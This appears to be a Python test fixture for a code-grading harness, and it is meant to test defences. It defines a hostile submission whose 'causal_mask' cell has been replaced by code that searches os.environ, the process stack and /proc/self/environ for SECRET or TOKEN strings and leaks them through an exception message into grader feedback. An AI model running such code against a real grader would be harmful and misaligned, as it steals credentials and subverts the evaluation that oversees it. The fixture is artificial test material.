"""Hunts for the grading machine's tokens and raises them into its own feedback.

Clearing os.environ is not enough: the strings a process was started with stay on its stack, which
the process can always read, so the attack scans the stack as well as os.environ and /proc."""

HONEST = None  # a wrong-corpus entry holding this submission's honest work, if any
ATTACK = {  # cells replaced by hostile code (their honest content: nothing)
    'causal_mask': "def causal_mask(T):\n"
                   "    import ctypes, os\n"
                   "    wanted = lambda s: b'SECRET' in s or b'TOKEN' in s\n"
                   "    found = [k + '=' + v for k, v in os.environ.items() if wanted(k.encode())]\n"
                   "    for line in open('/proc/self/maps'):\n"
                   "        if line.rstrip().endswith('[stack]'):\n"
                   "            lo, hi = (int(x, 16) for x in line.split()[0].split('-'))\n"
                   "            found += [s.decode(errors='replace') for s in ctypes.string_at(lo, hi - lo).split(b'\\0') if wanted(s)]\n"
                   "    try:\n"
                   "        found += [s.decode(errors='replace') for s in open('/proc/self/environ', 'rb').read().split(b'\\0') if wanted(s)]\n"
                   "    except OSError:\n"
                   "        pass\n"
                   "    raise RuntimeError('leaked: ' + repr(found))",
}
ATTACK_CELLS = [  # hostile cells inserted after the imports
]
TOUCHES = ()  # exercises the attack itself may break (self-inflicted)
